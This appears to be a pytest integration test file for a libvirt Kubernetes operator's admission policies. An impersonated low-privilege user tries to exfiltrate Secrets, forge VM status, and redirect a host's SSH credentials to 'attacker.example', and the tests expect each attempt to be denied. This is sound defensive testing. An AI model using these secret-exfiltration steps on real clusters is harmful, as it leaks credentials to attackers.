"""The ValidatingAdmissionPolicies of manifests/deploy on a real kube-apiserver: checks that depend on
who asks (the CRD schema cannot express them). Requests are made as an ordinary user, "mallory",
through impersonation, with only the RBAC a namespace user gets.

The policies are applied for real (cluster-wide): they exempt system:masters, which the other tests
and the in-process operator use, so they do not interfere with them.
"""

from __future__ import annotations

import copy
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client, config
from kubernetes.client.exceptions import ApiException
from kubernetes.dynamic import DynamicClient

from tests.harness.kube import GROUP, REPO, VERSION, Kube
from tests.integration.test_deploy_manifests import CHART, NAMESPACE, helm_binary  # noqa: F401  (fixture)

POLICIES = REPO / "manifests" / "deploy" / "60-admission-policies.yaml"
OPERATOR_SA = "system:serviceaccount:libvirt-operator:libvirt-operator"
ISO = {"source": {"url": "https://images.example/x.iso"}, "skipChecksumVerification": True}


def _docs() -> list[dict[str, Any]]:
    return [d for d in yaml.safe_load_all(POLICIES.read_text()) if d]


@pytest.fixture(scope="module")
def policies(kube: Kube) -> Iterator[list[dict[str, Any]]]:
    dyn = DynamicClient(kube.api)
    docs = _docs()
    for doc in docs:
        resource = dyn.resources.get(api_version=doc["apiVersion"], kind=doc["kind"])
        dyn.server_side_apply(resource, body=doc, field_manager="test-admission", force_conflicts=True)
    yield docs
    for doc in reversed(docs):
        resource = dyn.resources.get(api_version=doc["apiVersion"], kind=doc["kind"])
        try:
            resource.delete(name=doc["metadata"]["name"])
        except ApiException as err:
            if err.status != 404:
                raise


def _as(kubeconfig: Path, user: str) -> client.ApiClient:
    api = config.new_client_from_config(config_file=str(kubeconfig))
    api.set_default_header("Impersonate-User", user)
    return api


def _grant(kube: Kube, namespace: str, user: str, name: str, rules: list[dict[str, Any]]) -> None:
    rbac = client.RbacAuthorizationV1Api(kube.api)
    rbac.create_namespaced_role(namespace, {"metadata": {"name": name}, "rules": rules})
    rbac.create_namespaced_role_binding(namespace, {
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]})


def _namespace_user_rules() -> list[dict[str, Any]]:
    """What a team member typically gets: full control of VMs and ISOImages, status included."""
    return [{"apiGroups": [GROUP], "resources": ["virtualmachines", "isoimages", "virtualmachines/status",
                                                 "isoimages/status"],
             "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]}]


def _denied(fn: Any, *args: Any, **kwargs: Any) -> str:
    with pytest.raises(ApiException) as info:
        fn(*args, **kwargs)
    assert info.value.status in (403, 422), info.value.body
    return info.value.body


def _wait_enforced(fn: Any, marker: str, timeout: float = 30) -> str:
    """Policies take effect once the apiserver has loaded them (about a second). `fn` makes a dry-run
    request (admission runs, nothing is stored), so an early success leaves nothing behind."""
    def attempt() -> str | None:
        try:
            fn()
        except ApiException as err:
            if marker in (err.body or ""):
                return err.body
            raise
        return None
    return Kube.wait_for(attempt, timeout=timeout, what=f"admission policy denial containing {marker!r}")


@pytest.fixture
def mallory(kube: Kube, kubeconfig: Path, namespace: str) -> tuple[str, client.CustomObjectsApi]:
    user = f"mallory-{uuid.uuid4().hex[:6]}"
    _grant(kube, namespace, user, "team-member", _namespace_user_rules())
    return user, client.CustomObjectsApi(_as(kubeconfig, user))


def test_iso_cannot_name_a_secret_its_creator_cannot_read(kube, policies, namespace, mallory) -> None:
    """An ISOImage's authSecretRef makes the operator send the Secret's value to the image URL: a user
    who cannot read the Secret could otherwise exfiltrate it to a server of their choice."""
    user, custom = mallory
    kube.core.create_namespaced_secret(namespace, {"metadata": {"name": "mirror-auth"},
                                                   "stringData": {"authorization": "Bearer s3cret"}})

    def create(name: str, source_extra: dict[str, Any], **kwargs: Any) -> Any:
        body = {"apiVersion": f"{GROUP}/{VERSION}", "kind": "ISOImage", "metadata": {"name": name},
                "spec": {**ISO, "source": {**ISO["source"], **source_extra}}}
        return custom.create_namespaced_custom_object(GROUP, VERSION, namespace, "isoimages", body, **kwargs)

    _wait_enforced(lambda: create("steal", {"authSecretRef": {"name": "mirror-auth"}}, dry_run="All"),
                   "authSecretRef")
    body = _denied(create, "steal", {"authSecretRef": {"name": "mirror-auth"}})
    assert f"you may not get Secret {namespace}/mirror-auth" in body
    assert kube.get("isoimages", "steal", namespace) is None
    body = _denied(create, "steal-ca", {"caBundleSecretRef": {"name": "mirror-auth"}})
    assert "spec.source.caBundleSecretRef" in body
    create("plain", {})  # control: without a Secret reference the same user may create ISOImages
    # Once allowed to read that one Secret, the user may hand it to the operator.
    _grant(kube, namespace, user, "read-mirror-auth", [
        {"apiGroups": [""], "resources": ["secrets"], "resourceNames": ["mirror-auth"], "verbs": ["get"]}])
    Kube.wait_for(lambda: _created(create, "allowed", {"authSecretRef": {"name": "mirror-auth"}}), timeout=15,
                  what="ISOImage with a readable Secret admitted")
    # Updating other fields of an ISOImage whose Secret someone else named is not re-checked.
    kube.create("isoimages", {"metadata": {"name": "by-admin"}, "spec": {
        **ISO, "source": {**ISO["source"], "authSecretRef": {"name": "other-secret"}}}}, namespace=namespace)
    custom.patch_namespaced_custom_object(GROUP, VERSION, namespace, "isoimages", "by-admin",
                                          {"spec": {"targets": {"hostNames": ["h1"]}}})
    for name in ("plain", "allowed", "by-admin"):
        kube.patch("isoimages", name, {"metadata": {"finalizers": None}}, namespace=namespace)
        kube.delete("isoimages", name, namespace=namespace)


def _created(create: Any, *args: Any) -> bool:
    try:
        create(*args)
    except ApiException as err:
        if err.status in (403, 422):
            return False
        raise
    return True


def test_only_the_operator_writes_status(kube, kubeconfig, policies, namespace, mallory) -> None:
    """status.volumes / status.host / status.domainUUID tell the operator what to delete on a host:
    a user allowed to patch status (RBAC often grants `*/status` with the resource) must not forge it."""
    _, custom = mallory
    kube.create("virtualmachines", {"metadata": {"name": "victim"}, "spec": {"runStrategy": "Halted"}},
                namespace=namespace)
    forged = {"status": {"host": "someone-elses-host",
                         "volumes": [{"disk": "root", "pool": "default", "name": "another-tenants-disk"}]}}

    def forge(**kwargs: Any) -> Any:
        return custom.patch_namespaced_custom_object_status(
            GROUP, VERSION, namespace, "virtualmachines", "victim", forged,
            _content_type="application/merge-patch+json", **kwargs)

    _wait_enforced(lambda: forge(dry_run="All"), "only the libvirt-operator writes the status")
    body = _denied(forge)
    assert "only the libvirt-operator writes the status" in body
    assert "virtualmachines" in body
    assert ((kube.get("virtualmachines", "victim", namespace) or {}).get("status") or {}).get("host") != \
        "someone-elses-host"
    # The operator's ServiceAccount may (it has the RBAC from manifests/deploy; here: the same Role).
    _grant(kube, namespace, OPERATOR_SA, "operator-status", _namespace_user_rules())
    as_operator = client.CustomObjectsApi(_as(kubeconfig, OPERATOR_SA))
    as_operator.patch_namespaced_custom_object_status(
        GROUP, VERSION, namespace, "virtualmachines", "victim", {"status": {"printableStatus": "Stopped"}},
        _content_type="application/merge-patch+json")
    kube.patch("virtualmachines", "victim", {"metadata": {"finalizers": None}}, namespace=namespace)
    kube.delete("virtualmachines", "victim", namespace=namespace)


def test_host_credentials_need_read_access_and_are_rechecked_when_the_uri_moves(kube, kubeconfig, policies,
                                                                                namespace) -> None:
    """A LibvirtHost's credentials are presented to its URI: naming them, or pointing an existing host
    at another URI, requires being able to read them."""
    user = f"host-admin-{uuid.uuid4().hex[:6]}"
    rbac = client.RbacAuthorizationV1Api(kube.api)
    role = f"lvh-editor-{user}"
    rbac.create_cluster_role({"metadata": {"name": role}, "rules": [
        {"apiGroups": [GROUP], "resources": ["libvirthosts"], "verbs": ["get", "create", "patch", "delete"]}]})
    rbac.create_cluster_role_binding({
        "metadata": {"name": role},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]})
    custom = client.CustomObjectsApi(_as(kubeconfig, user))
    name = f"cred-{uuid.uuid4().hex[:6]}"
    spec = {"uri": "qemu+ssh://root@127.0.0.1:1/system",
            "credentialsSecretRef": {"name": "host-ssh", "namespace": namespace}}

    def create(**kwargs: Any) -> Any:
        return custom.create_cluster_custom_object(GROUP, VERSION, "libvirthosts", {
            "apiVersion": f"{GROUP}/{VERSION}", "kind": "LibvirtHost", "metadata": {"name": name}, "spec": spec},
            **kwargs)

    try:
        _wait_enforced(lambda: create(dry_run="All"), "credentialsSecretRef")
        body = _denied(create)
        assert f"you may not get Secret {namespace}/host-ssh" in body
        # An admin creates the host; the user may still edit unrelated fields ...
        kube.create("libvirthosts", {"metadata": {"name": name}, "spec": spec})
        custom.patch_cluster_custom_object(GROUP, VERSION, "libvirthosts", name, {"spec": {"maxConcurrentCalls": 2}})
        # ... but not send the credentials elsewhere.
        body = _denied(custom.patch_cluster_custom_object, GROUP, VERSION, "libvirthosts", name,
                       {"spec": {"uri": "qemu+ssh://root@attacker.example/system"}})
        assert "attacker.example" in body and "credentialsSecretRef" in body
        assert kube.get("libvirthosts", name)["spec"]["uri"] == spec["uri"]
    finally:
        kube.patch("libvirthosts", name, {"metadata": {"finalizers": None}}) if kube.get("libvirthosts", name) else None
        kube.delete("libvirthosts", name)
        rbac.delete_cluster_role_binding(role)
        rbac.delete_cluster_role(role)


def test_the_chart_ships_the_same_policies_and_can_turn_them_off(helm_binary, tmp_path) -> None:
    """The chart renders the plain manifests' policies for its own ServiceAccount and names, on by default."""
    def render(*sets: str) -> list[dict[str, Any]]:
        env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "HELM_CACHE_HOME": str(tmp_path / "c"),
               "HELM_CONFIG_HOME": str(tmp_path / "g"), "HELM_DATA_HOME": str(tmp_path / "d")}
        args = [helm_binary, "template", "lvop", str(CHART), "--namespace", NAMESPACE, "--kube-version", "1.34.0"]
        for value in sets:
            args += ["--set", value]
        out = subprocess.run(args, env=env, check=True, capture_output=True, text=True).stdout
        return [d for d in yaml.safe_load_all(out) if d and d["kind"].startswith("ValidatingAdmissionPolicy")]

    def normalised(doc: dict[str, Any]) -> dict[str, Any]:
        doc = copy.deepcopy(doc)
        doc["metadata"] = {"name": doc["metadata"]["name"].replace("lvop-libvirt-operator-", "libvirt-operator-")}
        if "policyName" in doc["spec"]:
            doc["spec"]["policyName"] = doc["spec"]["policyName"].replace("lvop-libvirt-operator-", "libvirt-operator-")
        text = yaml.safe_dump(doc).replace(f"system:serviceaccount:{NAMESPACE}:lvop-libvirt-operator",
                                           "system:serviceaccount:libvirt-operator:libvirt-operator")
        return yaml.safe_load(text)

    chart = sorted((normalised(d) for d in render()), key=lambda d: (d["kind"], d["metadata"]["name"]))
    plain = sorted((normalised(d) for d in _docs()), key=lambda d: (d["kind"], d["metadata"]["name"]))
    assert chart == plain
    assert render("admissionPolicies.enabled=false") == []
